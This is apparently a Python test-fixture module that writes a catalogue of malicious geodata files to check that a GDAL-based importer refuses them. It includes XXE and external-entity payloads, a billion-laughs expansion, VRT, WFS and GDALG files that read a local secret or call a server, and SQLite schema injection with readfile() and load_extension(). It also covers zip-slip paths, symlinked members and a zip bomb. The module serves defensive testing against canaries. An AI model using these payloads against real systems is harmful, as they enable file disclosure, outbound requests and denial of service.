"""The files of the list of known attacks. Each is written into a folder and points at the canaries."""

from __future__ import annotations

import io
import json
import sqlite3
import stat
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import geopandas as gpd
import openpyxl

from tests.sources.files import collection, feature, geopackage, point, run_sql, shapefile_parts, written, zipped

VRT = """<OGRVRTDataSource><OGRVRTLayer name="secret">
<SrcDataSource>{}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"""
Make = Callable[[Path, Path, str], Path]
"""Writes into a folder a file that points at the secret file and at the server's address."""


@dataclass(frozen=True)
class Attack:
    """One file. `live`: a plain GDAL opens the secret or calls the server; `refused`: it must not be read at all."""

    row: str
    name: str
    make: Make
    live: bool = False
    refused: bool = True

    def __str__(self) -> str:
        return f"{self.row}: {self.name}"


# what XML files of several formats are made of
FEATURE = '<gml:featureMember><m:F gml:id="f"><m:name>a</m:name>{}</m:F></gml:featureMember>'
GML = (
    '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml/3.2" xmlns:m="https://example.org/m" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"{}>{}'
    "</gml:FeatureCollection>"
)
POINT = '<m:g><gml:Point gml:id="p" srsName="{}"><gml:pos>7.1 51.6</gml:pos></gml:Point></m:g>'
TYPES = (
    '<!DOCTYPE {0} SYSTEM "@SERVER@/a.dtd">',
    '<!DOCTYPE {0} [<!ENTITY e SYSTEM "file://@FILE@">]>',
    '<!DOCTYPE {0} [<!ENTITY % p SYSTEM "@SERVER@/p.dtd"> %p;]>',
    '<!DOCTYPE {0} [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {name} "{f"&{inner};" * 10}">' for inner, name in ("ab", "bc", "cd", "de"))
    + "]>",
)
KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'
MARK = "<Placemark><name>{}</name><Point><coordinates>7.1,51.6</coordinates></Point></Placemark>"

ATTACKS: list[Attack] = []


def attack(row: str, name: str, *, live: bool = False, refused: bool = True) -> Callable[[Make], Make]:
    """Add a function that writes a file to the list."""

    def add(make: Make) -> Make:
        ATTACKS.append(Attack(row, name, make, live, refused))
        return make

    return add


def text(row: str, name: str, content: str, *, live: bool = False, refused: bool = True) -> None:
    """Add a file of this content; @FILE@ and @SERVER@ stand for the canaries."""

    def make(folder: Path, secret: Path, server: str) -> Path:
        return written(folder, name, content.replace("@FILE@", str(secret)).replace("@SERVER@", server))

    ATTACKS.append(Attack(row, name, make, live, refused))


# -- what points at other sources -------------------------------------------------------------------------------------

for ending in ("geojson", "gml", "kml", "csv", "xlsx", "xml", "parquet"):
    text("VRT", f"local.{ending}", VRT.format("@FILE@"), live=True)
for number, where in enumerate(
    ("/vsicurl/@SERVER@/a.csv", "@SERVER@/a.geojson", "WFS:@SERVER@/wfs", "OAPIF:@SERVER@/")
):
    text("VRT", f"remote{number}.gml", VRT.format(where), live=True)
text(
    "VRT",
    "warped.gml",
    '<VRTDataset rasterXSize="1" rasterYSize="1"><SourceFilename>@FILE@</SourceFilename></VRTDataset>',
)


@attack("VRT", "in a zip")
def _(folder: Path, secret: Path, server: str) -> Path:
    return zipped(folder / "a.zip", {"a.gml": VRT.format(secret).encode(), "b.vrt": VRT.format(secret).encode()})


@attack("VRT", "as the parts of a Shapefile")
def _(folder: Path, secret: Path, server: str) -> Path:
    return zipped(folder / "a.zip", {f"a{suffix}": VRT.format(secret).encode() for suffix in (".shp", ".shx", ".dbf")})


@attack("VRT", "beside a Shapefile", refused=False)
def _(folder: Path, secret: Path, server: str) -> Path:
    parts = {f"a{suffix}": part for suffix, part in shapefile_parts(folder).items()}
    return zipped(folder / "a.zip", {**parts, "a.vrt": VRT.format(secret).encode()})


for name, where in (("a", "@FILE@"), ("b", "/vsicurl/@SERVER@/a.geojson")):
    line = f"gdal vector pipeline ! read {where}"
    text("GDALG", f"{name}.geojson", json.dumps({"type": "gdal_streamed_alg", "command_line": line}), live=True)
text("WFS", "a.gml", "<OGRWFSDataSource><URL>@SERVER@/wfs</URL></OGRWFSDataSource>", live=True)
text("WFS", "b.gml", "<WFS_Capabilities xmlns='http://www.opengis.net/wfs'>@SERVER@</WFS_Capabilities>")
text("WFS", "c.xml", "<GDAL_WMS><Service name='TMS'><ServerUrl>@SERVER@</ServerUrl></Service></GDAL_WMS>")
text("WFS", "d.xml", "<OGRCSWDataSource><URL>@SERVER@/csw</URL></OGRCSWDataSource>")

# -- databases --------------------------------------------------------------------------------------------------------


@attack("VirtualOGR", "a.sqlite")
def _sqlite(folder: Path, secret: Path, server: str) -> Path:
    path = folder / "a.sqlite"
    base = sqlite3.connect(path)
    base.execute("CREATE TABLE harmless (a)")
    base.execute("PRAGMA writable_schema = ON")
    statement = f"CREATE VIRTUAL TABLE secret USING VirtualOGR('{secret}', 0, 'secret')"
    base.execute("INSERT INTO sqlite_master VALUES ('table', 'secret', 'secret', 0, ?)", (statement,))
    base.commit()
    base.close()
    return path


@attack("VirtualOGR", "named .geojson")
def _(folder: Path, secret: Path, server: str) -> Path:
    return _sqlite(folder, secret, server).rename(folder / "a.geojson")


@attack("VirtualOGR", "in a GeoPackage")
def _(folder: Path, secret: Path, server: str) -> Path:
    statement = f"CREATE VIRTUAL TABLE secret USING VirtualOGR('{secret}')"
    return run_sql(
        geopackage(folder / "a.gpkg"),
        "PRAGMA writable_schema = ON",
        ("INSERT INTO sqlite_master VALUES ('table', 'secret', 'secret', 0, ?)", (statement,)),
        "INSERT INTO gpkg_contents (table_name, data_type) VALUES ('secret', 'attributes')",
    )


@attack("VirtualOGR", "a view that loads")
def _(folder: Path, secret: Path, server: str) -> Path:
    return run_sql(
        geopackage(folder / "a.gpkg"),
        "ALTER TABLE sites RENAME TO under",
        f"CREATE VIEW sites AS SELECT *, readfile('{secret}') AS r, load_extension('x') AS l FROM under",
    )


@attack("coordinate systems", "a grid in a GeoPackage", refused=False)
def _(folder: Path, secret: Path, server: str) -> Path:
    wkt = gpd.GeoSeries([], crs="EPSG:31467").crs.to_wkt("WKT1_GDAL")
    grid = f'{wkt[:-1]},EXTENSION["PROJ4","+proj=tmerc +lon_0=9 +ellps=bessel +nadgrids={secret} +units=m"]]'
    return run_sql(
        geopackage(folder / "a.gpkg"),
        ("UPDATE gpkg_spatial_ref_sys SET definition = ?, organization = 'NONE', organization_coordsys_id = 99999 "
         "WHERE srs_id = 25832", (grid,)),
    )  # fmt: skip


@attack("coordinate systems", "a grid in a Shapefile", refused=False)
def _(folder: Path, secret: Path, server: str) -> Path:
    parts = {f"a{suffix}": part for suffix, part in shapefile_parts(folder).items()}
    wkt = parts["a.prj"].decode()
    grid = f'{wkt[:-1]},EXTENSION["PROJ4","+proj=longlat +nadgrids={secret}"]]'
    return zipped(folder / "a.zip", {**parts, "a.prj": grid.encode()})


# -- GeoJSON ----------------------------------------------------------------------------------------------------------


def _crs(kind: str, properties: dict[str, Any]) -> dict[str, Any]:
    return {"type": kind, "properties": properties}


for kind in ("link", "url"):
    asked = _crs(kind, {"href": "@SERVER@/crs", "url": "@SERVER@/crs", "type": "ogcwkt"})
    text("GeoJSON crs", f"{kind}.geojson", collection(feature({"name": "a"}, point()), crs=asked), live=True)
    inside = feature({"name": "a"}, {**point(), "crs": asked})
    text("GeoJSON crs", f"{kind}-inside.geojson", collection(inside))
    local = _crs(kind, {"href": "file://@FILE@", "url": "@FILE@", "type": "proj4"})
    text("GeoJSON crs", f"{kind}-local.geojson", collection(feature({"name": "a"}, point()), crs=local))
for number, name in enumerate(("+proj=longlat +nadgrids=@FILE@", "+init=@FILE@:1", "@SERVER@/crs", "@FILE@")):
    named = collection(feature({"name": "a"}, point()), crs=_crs("name", {"name": name}))
    text("coordinate systems", f"named{number}.geojson", named)

# -- files beside -----------------------------------------------------------------------------------------------------


@attack("sidecars", ".gfs .xsd .csvt .prj .qix -journal -wal beside GML", live=True, refused=False)
def _(folder: Path, secret: Path, server: str) -> Path:
    path = written(folder, "a.gml", GML.format("", FEATURE.format(POINT.format("EPSG:4326"))))
    for suffix in (".gfs", ".xsd", ".qix", ".prj", ".gml-journal"):
        (folder / f"a{suffix}").symlink_to(secret)
    return path


@attack("sidecars", ".csvt and .prj beside CSV", live=True, refused=False)
def _(folder: Path, secret: Path, server: str) -> Path:
    path = written(folder, "a.csv", "id;name;lon;lat\n1;a;7.1;51.6\n")
    for suffix in (".csvt", ".prj"):
        (folder / f"a{suffix}").symlink_to(secret)
    return path


@attack("sidecars", "-journal and -wal beside a GeoPackage", refused=False)
def _(folder: Path, secret: Path, server: str) -> Path:
    path = geopackage(folder / "a.gpkg")
    for suffix in ("-journal", "-wal", "-shm"):
        (folder / f"a.gpkg{suffix}").symlink_to(secret)
    return path


@attack("sidecars", ".qix .sbn .cpg .shp.xml in a Shapefile", refused=False)
def _(folder: Path, secret: Path, server: str) -> Path:
    parts = {f"a{suffix}": part for suffix, part in shapefile_parts(folder).items()}
    said = {
        f"a{suffix}": str(secret).encode() for suffix in (".qix", ".sbn", ".cpg", ".idm", ".ind", ".shp.xml", ".qpj")
    }
    return zipped(folder / "a.zip", {**parts, **said})


# -- archives ---------------------------------------------------------------------------------------------------------


def kinds(folder: Path) -> dict[str, dict[str, bytes]]:
    """Return the members of an ordinary archive of each kind."""
    book = io.BytesIO()
    sheet = openpyxl.Workbook()
    sheet.active.append(["id", "name"])  # type: ignore[union-attr]
    sheet.active.append(["1", "a"])  # type: ignore[union-attr]
    sheet.save(book)
    sheet.close()
    with zipfile.ZipFile(book) as archive:
        xlsx = {name: archive.read(name) for name in archive.namelist()}
    return {
        "zip": {f"a{suffix}": part for suffix, part in shapefile_parts(folder).items()},
        "kmz": {"doc.kml": KML.format(MARK.format("a")).encode(), "files/a.png": b"\x89PNG"},
        "xlsx": xlsx,
    }


def packed(path: Path, members: dict[str, bytes], *more: tuple[zipfile.ZipInfo | str, bytes], flag: int = 0) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (*members.items(), *more):
            archive.writestr(name, content, zipfile.ZIP_DEFLATED)
    if flag:
        content = bytearray(path.read_bytes())
        content[content.rindex(b"PK\x01\x02") + 8] |= flag
        path.write_bytes(content)
    return path


def _link(name: str, secret: Path) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return info, str(secret).encode()


def _overlapping(path: Path, members: dict[str, bytes]) -> Path:
    packed(path, members)
    content = bytearray(path.read_bytes())
    entry = content.rindex(b"PK\x01\x02")
    content[entry + 42 : entry + 46] = struct.pack("<I", 0)
    path.write_bytes(content)
    return path


def _nested(members: dict[str, bytes]) -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return inner.getvalue()


ZIPPED: dict[str, Callable[[Path, dict[str, bytes], Path], Path]] = {
    "../": lambda path, members, secret: packed(path, members, ("../../a.txt", b"x")),
    "absolute": lambda path, members, secret: packed(path, members, (str(secret), b"x")),
    "symlink": lambda path, members, secret: packed(path, members, _link("b.dbf", secret)),
    "bomb": lambda path, members, secret: packed(path, members, ("b.txt", bytes(40 * 2**20))),
    "overlap": lambda path, members, secret: _overlapping(path, members),
    "nested": lambda path, members, secret: packed(path, members, ("b.zip", _nested(members))),
    "encrypted": lambda path, members, secret: packed(path, members, flag=1),
    "10,000 members": lambda path, members, secret: packed(path, members, *((f"{i}.txt", b"") for i in range(10_000))),
}
for ending in ("zip", "kmz", "xlsx"):
    for name, change in ZIPPED.items():

        def make(folder: Path, secret: Path, server: str, change: Any = change, ending: str = ending) -> Path:
            path: Path = change(folder / f"a.{ending}", kinds(folder)[ending], secret)
            return path

        ATTACKS.append(Attack("archives", f"{name} .{ending}", make))

NAMES = (
    *(
        "/vsicurl/@SERVER@/a.csv",
        "/vsicurl_streaming/@SERVER@/a.csv",
        "@SERVER@/a.geojson",
        "CSV:@FILE@",
        "GeoJSON:@FILE@",
    ),
    *(
        "PG:host=127.0.0.1 dbname=x",
        "MySQL:x",
        "WFS:@SERVER@/",
        "OAPIF:@SERVER@",
        "/vsizip/@FILE@",
        "/vsisubfile/0_9,@FILE@",
    ),
    *(
        "/vsis3/x/a.csv",
        "/vsistdin/",
        "SQLite:@FILE@",
        "GPKG:@FILE@",
        "/vsitar/@FILE@",
        "@FILE@:secret",
        "file://@FILE@",
    ),
)
"""Names that mean something to GDAL and are no files."""
